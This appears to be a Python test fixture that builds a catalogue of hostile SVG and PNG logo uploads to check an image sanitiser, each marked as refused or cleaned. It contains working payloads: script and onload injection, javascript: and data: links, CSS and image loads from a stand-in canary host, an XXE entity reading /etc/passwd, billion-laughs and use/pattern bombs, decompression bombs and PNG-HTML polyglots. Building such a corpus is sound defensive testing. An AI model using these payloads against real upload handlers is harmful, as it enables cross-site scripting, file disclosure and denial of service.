"""Every hostile logo: what an attacker would upload. Reused by the test that opens what is left of them in a browser.

``HOSTILE`` has each file by its name, ``MUST_BE_REFUSED`` says which of them may not be accepted at all. The others
are accepted without what makes them hostile. A file that runs sets ``top.canary``; one that loads asks for
``CANARY_URL``.
"""

from __future__ import annotations

import struct
import zlib

from tests.branding.samples import (
    SIGNATURE,
    apng,
    chunk,
    header,
    pixels,
    plain_png,
    png,
)

CANARY_URL = "http://canary.invalid/seen"
CANARY_SCRIPT = f"top.canary=1;new Image().src='{CANARY_URL}'"
_MEGABYTE = 1 << 20


def svg(inside: str, root: str = "", before: str = "") -> bytes:
    """Return a drawing of 10 x 10 that has ``inside`` in it, more attributes on its root, or a prolog."""
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 10 10" {root}>{inside}</svg>'
    ).encode()


def use_bomb(levels: int, width: int = 10) -> bytes:
    """Return groups of ``use``, each drawing the group before it ``width`` times."""
    groups = ['<g id="g0"><path d="M0 0h1v1z"/></g>']
    for level in range(1, levels):
        groups.append(f'<g id="g{level}">' + f'<use xlink:href="#g{level - 1}"/>' * width + "</g>")
    return svg(f'<defs>{"".join(groups)}</defs><use href="#g{levels - 1}"/>')


def pattern_bomb(levels: int, attribute: str = 'fill="url(#{})"', element: str = "pattern") -> bytes:
    """Return patterns, or masks, whose ten shapes each are painted with the one before."""
    found = [f'<{element} id="p0" width="1" height="1"><rect width="1" height="1"/></{element}>']
    for level in range(1, levels):
        shape = f'<rect width="1" height="1" {attribute.format(f"p{level - 1}")}/>'
        found.append(f'<{element} id="p{level}" width="1" height="1">{shape * 10}</{element}>')
    last = attribute.format(f"p{levels - 1}")
    return svg(f'<defs>{"".join(found)}</defs><rect width="9" height="9" {last}/>')


def zeros(megabytes: int) -> bytes:
    """Return zeros packed a thousandfold."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(_MEGABYTE)) for _ in range(megabytes)) + packer.flush()


def doctype(subset: str, inside: str = "") -> bytes:
    """Return a drawing with a document type declaration."""
    return svg(inside, before=f"<!DOCTYPE svg {subset}>")


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_S, _U = CANARY_SCRIPT, CANARY_URL
_SHAPE = '<rect width="9" height="9"/>'
_PLAIN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>'
_DATA_SVG = f"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='{_S}'/%3E"

_SVG_REFUSED: dict[str, bytes] = {
    # 1 script
    "script": svg(f"<script>{_S}</script>"),
    "script in CDATA": svg(f"<script><![CDATA[{_S}]]></script>"),
    "script from elsewhere": svg(f'<script href="{_U}"/>'),
    "script by prefix": svg(f'<s:script xmlns:s="http://www.w3.org/2000/svg">{_S}</s:script>'),
    "script of HTML": svg(f"<h:script>{_S}</h:script>"),
    "script in what is left out": svg(f"<metadata><script>{_S}</script></metadata>"),
    "script in a filter": svg(f"<filter><feMerge><script>{_S}</script></feMerge></filter>"),
    "script in a title": svg(f"<title><script>{_S}</script></title>"),
    "script in no namespace": f'<svg viewBox="0 0 1 1"><script>{_S}</script></svg>'.encode(),
    "handler": svg(f'<handler type="text/javascript">{_S}</handler>'),
    "listener": svg('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>'),
    # 2 event attributes
    "onload": svg(_SHAPE, root=f'onload="{_S}"'),
    "onload on a style": svg(f'<style onload="{_S}">g{{fill:red}}</style>'),
    "onclick": svg(f'<g onclick="{_S}">{_SHAPE}</g>'),
    "onLoad in mixed case": svg(f'<g OnLoad="{_S}"/>'),
    "onfocusin": svg(f'<g tabindex="1" onfocusin="{_S}"/>'),
    "onerror in what is left out": svg(f'<filter onerror="{_S}"/>'),
    "event attribute of a namespace": svg(f'<g xmlns:s="http://www.w3.org/2000/svg" s:onload="{_S}"/>'),
    # 3 foreignObject, and HTML without one
    "foreignObject": svg(f'<foreignObject width="9" height="9"><h:body onload="{_S}"/></foreignObject>'),
    "iframe": svg(f'<h:iframe src="{_U}"/>'),
    "html": svg("<h:p>text</h:p>"),
    "object": svg(f'<object data="{_U}"/>'),
    "video": svg(f'<video src="{_U}"/>'),
    "canvas": svg("<canvas/>"),
    # 4, 5 javascript: and data: links
    "link to a script": svg(f'<a href="javascript:{_S}">{_SHAPE}</a>'),
    "link to data": svg(f'<a xlink:href="{_DATA_SVG}">{_SHAPE}</a>'),
    "link": svg(f'<a href="{_U}">{_SHAPE}</a>'),
    "link that is spaced": svg(f'<use href="java&#9;script:{_S}"/>'),
    "use of a script": svg(f'<use xlink:href="javascript:{_S}"/>'),
    "use of data": svg(f'<use href="{_DATA_SVG}#x"/>'),
    "gradient of a script": svg(f'<linearGradient href="JavaScript:{_S}"/>'),
    "fill with a script": svg(f'<rect fill="url(javascript:{_S})"/>'),
    "data in any attribute": svg('<g from="data:text/html,x"/>'),
    # 6 external image
    "image from elsewhere": svg(f'<image href="{_U}" width="9" height="9"/>'),
    "image of data": svg(f'<image href="{_DATA_SVG}" width="9" height="9"/>'),
    "feImage": svg(f'<filter id="f"><feImage href="{_U}"/></filter><rect filter="url(#f)"/>'),
    # 7 external use
    "use from elsewhere": svg(f'<use href="{_U}#x"/>'),
    "use from elsewhere by xlink": svg(f'<use href="#x" xlink:href="{_U}#x"/>'),
    "use of the file itself": svg('<use href=""/>'),
    "pattern from elsewhere": svg(f'<pattern href="{_U}#x"/>'),
    "xml:base": svg(_SHAPE, root=f'xml:base="{_U}"'),
    "style sheet from elsewhere": svg(_SHAPE, before=f'<?xml-stylesheet href="{_U}"?>'),
    "style sheet after the root": svg(_SHAPE) + f'<?xml-stylesheet href="{_U}"?>'.encode(),
    # 8 CSS @import
    "css import": svg(f"<style>@import '{_U}';</style>"),
    "css import by url": svg(f"<style>/**/@import/**/url({_U});</style>"),
    "css font": svg(f"<style>@font-face{{font-family:x;src:url({_U})}}</style>"),
    "css namespace": svg("<style>@namespace h url(#x);</style>"),
    # 9 CSS url()
    "css url": svg(f"<style>rect{{fill:url({_U}#x)}}</style>{_SHAPE}"),
    "css url of an unknown property": svg(f"<style>rect{{background:URL( '{_U}' )}}</style>{_SHAPE}"),
    "css url in an attribute": svg(f'<g style="cursor:url({_U}),auto"/>'),
    "css url as a paint": svg(f'<rect fill="url({_U}#x)"/>'),
    "css url of an unknown attribute": svg('<rect marker-start="url(//canary.invalid/seen#x)"/>'),
    "css url by escapes": svg(f"<style>rect{{fill:\\75 rl({_U})}}</style>"),
    "css url by a comment": svg(f"<style>rect{{fill:u/**/rl({_U})}}</style>"),
    "css url of another id": svg('<rect fill="url(#a\'b)"/>'),
    "css expression": svg(f'<g style="width:expression({_S})"/>'),
    "css behavior": svg('<g style="behavior:url(#x)"/>'),
    "css binding": svg('<g style="-moz-binding:url(#x)"/>'),
    "css for some media": svg('<style media="print">rect{fill:red}</style>'),
    "css of another language": svg('<style type="text/less">rect{fill:red}</style>'),
    "css with an element": svg("<style>rect{}<g/></style>"),
    "css without an end": svg("<style>rect{fill:red</style>"),
    "css with an endless comment": svg("<style>/* rect{fill:red}</style>"),
    "css in braces twice": svg("<style>g{rect{fill:red}}</style>"),
    "css by attributes": svg("<style>g[id^=a]{fill:red}</style>"),
    # 10 DOCTYPE
    "doctype": doctype('PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"', _SHAPE),
    "doctype from elsewhere": doctype(f'SYSTEM "{_U}"'),
    "doctype of HTML": b"<!DOCTYPE html><html><body>",
    # 11 entities
    "entity": doctype('[<!ENTITY x "y">]', "<text>&x;</text>"),
    "entity of a file": doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "<text>&x;</text>"),
    "entity of a parameter": doctype(f'[<!ENTITY % x SYSTEM "{_U}"> %x;]'),
    "entities by the billion": doctype(f'[<!ENTITY l0 "ha">{_LAUGHS}]', "<text>&l9;</text>"),
    "entity that is not declared": svg("<text>&nbsp;</text>"),
    # 12 animate and set of href
    "animate of href": svg(f'<use href="#x"><animate attributeName="href" to="{_U}#x" begin="0s"/></use>'),
    "animate of values": svg(f'<g><animate attributeName="href" values="javascript:{_S}"/></g>'),
    "set of href": svg(f'<use href="#x"><set attributeName="xlink:href" to="{_U}#x"/></use>'),
    "set of an event": svg(f'<g><set attributeName="onload" to="{_S}"/></g>'),
    "animateTransform": svg('<g><animateTransform attributeName="transform" type="rotate" dur="1s"/></g>'),
    "animateMotion": svg('<g><animateMotion path="M0 0h1"><mpath href="#x"/></animateMotion></g>'),
    "mpath": svg('<mpath href="#x"/>'),
    "discard": svg('<discard begin="1s"/>'),
    # 13 nested svg
    "nested svg": svg(f'<svg onload="{_S}"/>'),
    "nested svg that is plain": svg("<svg/>"),
    # 14 CDATA
    "CDATA that ends a style": svg(f"<style><![CDATA[</style><script>{_S}</script>]]></style>"),
    # 15 odd encodings
    "UTF-16": _PLAIN.encode("utf-16"),
    "UTF-16 without a mark": _PLAIN.encode("utf-16-le"),
    "UTF-16 the other way": _PLAIN.encode("utf-16-be"),
    "UTF-32": _PLAIN.encode("utf-32"),
    "UTF-16 by declaration": f'<?xml version="1.0" encoding="UTF-16"?>{_PLAIN}'.encode(),
    "UTF-7": f"<?xml version='1.0' encoding='UTF-7'?>{_PLAIN}+ADw-script+AD4-".encode(),
    "UTF-7 by declaration": f'<?xml version="1.0" encoding="utf-7"?>{_PLAIN}'.encode(),
    "Latin-1 by declaration": f'<?xml version="1.0" encoding="ISO-8859-1"?>{_PLAIN}'.encode(),
    "EBCDIC": f'<?xml version="1.0" encoding="cp037"?>{_PLAIN}'.encode("cp037"),
    "XML 1.1": f'<?xml version="1.1"?>{_PLAIN}'.encode(),
    "bytes that are no UTF-8": svg("<title>\u00e9</title>").replace("\u00e9".encode(), b"\xe9"),
    "UTF-8 that is too long": svg("<title>?</title>").replace(b"?", b"\xc0\xbcscript\xc0\xbe"),
    "a zero": svg("<title>?</title>").replace(b"?", b"\0"),
    # 16 use bombs, and others that multiply
    "use bomb": use_bomb(9),
    "use bomb of two levels": svg(
        f'<g id="a">{_SHAPE * 200}</g>' + '<use href="#a"/>' * 100,
    ),
    "use of itself": svg('<use id="a" href="#a"/>'),
    "use of what is around": svg('<g id="a"><use href="#a"/></g>'),
    "use of a use": svg(f'<g id="a">{_SHAPE}</g><use id="b" href="#a"/><use href="#b"/>'),
    "pattern bomb": pattern_bomb(7),
    "pattern bomb by style": pattern_bomb(7, 'style="stroke:url(#{})"'),
    "pattern bomb by a sheet": pattern_bomb(7, 'class="{}"').replace(
        b"<defs>",
        b"<defs><style>" + b"".join(b".p%d{fill:url(#p%d)}" % (level, level) for level in range(7)) + b"</style>",
    ),
    "pattern bomb by inheritance": svg(
        '<g fill="url(#c)"><pattern id="b">' + _SHAPE * 100 + f'</pattern></g><pattern id="c">{_SHAPE * 100}</pattern>'
        f'<g fill="url(#b)">{_SHAPE * 100}</g>'
    ),
    "mask bomb": pattern_bomb(7, 'mask="url(#{})"', "mask"),
    "clip bomb": pattern_bomb(7, 'clip-path="url(#{})"', "clipPath"),
    "pattern of itself": svg('<pattern id="a"><rect fill="url(#a)"/></pattern>'),
    "masks in a circle": svg('<mask id="a" mask="url(#b)"/><mask id="b" mask="url(#a)"/>'),
    "gradients in a circle": svg('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
    "more patterns than can be": svg(
        "<style>" + "".join(f"*{{fill:url(#p{n})}}" for n in range(5000)) + f"</style>{_SHAPE * 4000}"
    ),
    # 17 deep nesting
    "deep nesting": svg("<g>" * 20_000 + "</g>" * 20_000),
    "deep nesting without an end": svg("<g>" * 60_000),
    "deep nesting in what is left out": svg("<metadata>" + "<x>" * 20_000),
    "very many elements": svg("<g/>" * 6000),
    "very many elements that are left out": svg("<metadata>" + "<x/>" * 6000 + "</metadata>"),
    "very many attributes": svg("<g " + " ".join(f'a{n}=""' for n in range(5000)) + "/>"),
    # 18 huge dimensions
    "huge width": b'<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="10"/>',
    "huge height in inches": b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="9999in"/>',
    "huge view": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10001 1"/>',
    "endless width": svg("", root='width="1e999" height="1"'),
    "no number": svg("", root='width="NaN" height="1"'),
    "negative width": svg("", root='width="-5" height="1"'),
    "width by calculation": svg("", root='width="calc(1px*9)" height="1"'),
    "view of three numbers": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9"/>',
    "view of words": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 inf nan"/>',
    "no size": b'<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"/>',
    # 19 what else is no still drawing
    "html document": b"<html><script>top.canary=1</script></html>",
    "svg in another namespace": b'<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"/>',
    "xslt": b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    "unknown element": svg("<blink/>"),
    "svg and more": _PLAIN.encode() + f"<script>{_S}</script>".encode(),
    "text before": b"<x" + _PLAIN.encode(),
    "broken": _PLAIN.encode()[:-1],
    "empty": b"",
    "spaces": b" \n",
}

_SVG_CLEANED: dict[str, bytes] = {
    "CDATA in text": svg(f"<text><![CDATA[<script>{_S}</script>]]></text>"),
    "CDATA between elements": svg(f"<![CDATA[<script>{_S}</script>]]>{_SHAPE}"),
    "comment that looks closed": svg(f"<!--><script>{_S}</script>-->{_SHAPE}"),
    "title that looks closed": svg(f"<title>&lt;/title&gt;&lt;script&gt;{_S}&lt;/script&gt;</title>"),
    "attribute that looks closed": svg(f'<g id="a&quot;&gt;&lt;script&gt;" font-family="\'&gt;&lt;script&gt;{_S}\'"/>'),
    "script of a tool": svg(f'<x:data xmlns:x="urn:tool"><x:script>{_S}</x:script></x:data>{_SHAPE}'),
    "style sheet in metadata": svg(f'<metadata><?xml-stylesheet href="{_U}"?></metadata>{_SHAPE}'),
    "include": svg(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{_U}"/>{_SHAPE}'),
    "filter that takes for ever": svg(f'<filter id="f">{"<feTurbulence/>" * 500}</filter><g filter="url(#f)"/>'),
    "a mark and a declaration": b"\xef\xbb\xbf" + b'<?xml version="1.0" encoding="utf-8"?>' + _PLAIN.encode(),
    "two of an id": svg(f'<g id="a"/><g id="a">{_SHAPE}</g><use href="#a"/>'),
    "UTF-7 without a declaration": svg(f"<title>+ADw-script+AD4-{_S}+ADw-/script+AD4-</title>"),
    "css that is only unknown": svg('<style>g{position:fixed;content:"x";fill:var(--x);width:1px}</style>'),
}

_GOOD = plain_png()
_SMALL = header(1, 1, 8, 0)
_PIXEL = pixels(b"\0\x7f")
_BOMB = zeros(64)
_HTML = f"<html><script>{_S}</script></html>".encode()

_PNG_REFUSED: dict[str, bytes] = {
    "png and html": _GOOD + _HTML,
    "png and zip": _GOOD + b"PK\x05\x06" + bytes(18),
    "png and js": _GOOD + f"/*\n*/{_S}//".encode(),
    "png and one byte": _GOOD + b"\n",
    "png twice": _GOOD + _GOOD,
    "html in the end": _GOOD[:-12] + chunk(b"IEND", _HTML),
    "signature alone": SIGNATURE,
    "signature and garbage": SIGNATURE + bytes(range(256)) * 4,
    "signature and html": SIGNATURE + _HTML,
    "signature of a text transfer": _GOOD.replace(b"\r\n", b"\n", 1),
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64),
    "gif": b"GIF89a" + bytes(64),
    "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32),
    "zip": b"PK\x03\x04" + bytes(64),
    "svg that is compressed": b"\x1f\x8b\x08" + bytes(64),
    "script file": _S.encode(),
    "wrong checksum of the header": _GOOD[:29] + bytes([_GOOD[29] ^ 1]) + _GOOD[30:],
    "wrong checksum of a text": png(_SMALL, chunk(b"tEXt", b"a\0b")[:-1] + b"?", _PIXEL),
    "wrong checksum of the end": _GOOD[:-1] + b"?",
    "no header": png(_PIXEL),
    "header second": png(chunk(b"gAMA", bytes(4)), _SMALL, _PIXEL),
    "header twice": png(_SMALL, _SMALL, _PIXEL),
    "header of another length": png(chunk(b"IHDR", bytes(14)), _PIXEL),
    "header of a phone": png(chunk(b"CgBI", bytes(4)), _SMALL, _PIXEL),
    "no pixels": png(_SMALL),
    "no end": _GOOD[:-12],
    "pixels apart": png(_SMALL, chunk(b"IDAT", _PIXEL[8:12]), chunk(b"tEXt"), chunk(b"IDAT", _PIXEL[12:-4])),
    "chunk of four gigabytes": SIGNATURE + _SMALL + struct.pack(">I", 0xFFFFFFFF) + b"IDAT" + bytes(20),
    "chunk without a name": png(_SMALL, chunk(b"ID\0T"), _PIXEL),
    "critical chunk that is not known": png(_SMALL, chunk(b"EVIL"), _PIXEL),
    "size 30000 x 30000": png(header(30_000, 30_000), chunk(b"IDAT", zeros(8))),
    "size 0 x 0": png(header(0, 0), _PIXEL),
    "size 0 x 9": png(header(0, 9), _PIXEL),
    "size 512 x 513": png(header(512, 513, 1, 0), pixels(bytes(65 * 513))),
    "size 513 x 1": png(header(513, 1, 1, 0), pixels(bytes(66))),
    "size of four thousand million": png(header(0xFFFFFFFF, 1), _PIXEL),
    "bits that do not exist": png(header(1, 1, 3, 0), _PIXEL),
    "colours that do not exist": png(header(1, 1, 8, 5), _PIXEL),
    "interlacing that does not exist": png(header(1, 1, 8, 0, interlaced=2), _PIXEL),
    "packing that does not exist": png(chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 1, 0, 0)), _PIXEL),
    "size that is a lie": png(header(512, 512, 8, 0), _PIXEL),
    "pixels that are a bomb": png(header(16, 16), chunk(b"IDAT", _BOMB)),
    "pixels that are too many": png(_SMALL, pixels(b"\0\x7f\0")),
    "pixels and more behind": png(_SMALL, chunk(b"IDAT", zlib.compress(b"\0\x7f") + _HTML)),
    "pixels that break off": png(_SMALL, chunk(b"IDAT", zlib.compress(b"\0\x7f")[:-1])),
    "pixels that are not packed": png(_SMALL, chunk(b"IDAT", b"\0\x7f")),
    "pixels of a wrong checksum": png(_SMALL, chunk(b"IDAT", zlib.compress(b"\0\x7f")[:-1] + b"?")),
    "pixels with a filter that does not exist": png(_SMALL, pixels(b"\x09\x7f")),
    "palette missing": png(header(1, 1, 8, 3), _PIXEL),
    "palette of a wrong length": png(header(1, 1, 8, 3), chunk(b"PLTE", bytes(4)), _PIXEL),
    "palette too long": png(header(1, 1, 1, 3), chunk(b"PLTE", bytes(9)), pixels(b"\0\0")),
    "palette twice": png(header(1, 1, 8, 3), chunk(b"PLTE", bytes(3)), chunk(b"PLTE", bytes(3)), pixels(b"\0\0")),
    "palette after the pixels": png(header(1, 1, 8, 3), pixels(b"\0\0"), chunk(b"PLTE", bytes(3))),
    "transparency of a wrong length": png(_SMALL, chunk(b"tRNS", bytes(3)), _PIXEL),
    "transparency beside alpha": png(header(1, 1), chunk(b"tRNS", bytes(2)), pixels(bytes(5))),
    "transparency before the palette": png(
        header(1, 1, 8, 3), chunk(b"tRNS", b"\0"), chunk(b"PLTE", bytes(3)), pixels(b"\0\0")
    ),
}

_PNG_CLEANED: dict[str, bytes] = {
    "text bomb": png(_SMALL, chunk(b"zTXt", b"Comment\0\0" + _BOMB), _PIXEL),
    "international text bomb": png(_SMALL, chunk(b"iTXt", b"Comment\0\1\0\0\0" + _BOMB), _PIXEL),
    "colour profile bomb": png(_SMALL, chunk(b"iCCP", b"icc\0\0" + _BOMB), _PIXEL),
    "html in a text": png(_SMALL, chunk(b"tEXt", b"Title\0" + _HTML), _PIXEL),
    "script in camera data": png(_SMALL, chunk(b"eXIf", _S.encode()), _PIXEL),
    "zip in a chunk": png(_SMALL, chunk(b"zzZz", b"PK\x03\x04" + bytes(30)), _PIXEL),
    "animation": apng(),
    "ten thousand empty chunks": png(_SMALL, chunk(b"tEXt") * 10_000, _PIXEL, chunk(b"IDAT") * 10_000),
    "colours beyond the palette": png(header(1, 1, 8, 3), chunk(b"PLTE", bytes(3)), pixels(b"\0\xff")),
}

_REFUSED = {f"svg: {name}": content for name, content in _SVG_REFUSED.items()}
_REFUSED |= {f"png: {name}": content for name, content in _PNG_REFUSED.items()}
_CLEANED = {f"svg: {name}": content for name, content in _SVG_CLEANED.items()}
_CLEANED |= {f"png: {name}": content for name, content in _PNG_CLEANED.items()}

HOSTILE: dict[str, bytes] = _REFUSED | _CLEANED
MUST_BE_REFUSED: dict[str, bool] = {name: name in _REFUSED for name in HOSTILE}
